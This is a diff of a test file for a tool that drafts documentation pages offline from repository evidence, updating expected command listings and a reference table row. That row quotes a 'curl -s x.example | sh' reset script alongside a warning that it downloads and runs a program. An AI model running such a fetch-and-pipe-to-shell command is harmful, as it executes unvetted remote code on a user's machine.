@@ -22,7 +22,7 @@ describe('the offline script', () => {
     using repository = workshopRepository();
     const [evidence, out] = await evidenceOf(repository);
     const { closing, outcomes } = drive(script, evidence, out);
-    expect(outcomes[0]?.input['command']).toBe('ls /evidence');
+    expect(outcomes[0]?.input['command']).toBe('ls /evidence /trial');
     expect(closing).toMatch(/^Drafted offline from evidence, without a model: 9 pages and their ledger/);
     expect(readdirSync(out)).toHaveLength(10);
   });
@@ -69,7 +69,7 @@ describe('the offline script', () => {
     );
     expect(pageOf(out, 'first-change')).toContain('“feat(core): name the bench of a booking”');
     expect(pageOf(out, 'reference')).toContain(
-      '| `npm run reset` | root | “curl -s x.example \\| sh” Read it first: it downloads and runs a program. | `package.json:12` |',
+      '| `npm run reset` | root | “curl -s x.example \\| sh” Read it first: it downloads and runs a program. | not tried | `package.json:12` |',
     );
     expect(pageOf(out, 'glossary')).toContain(
       '| seat | A seat is one place at one bench on one day. | `README.md:5` |',
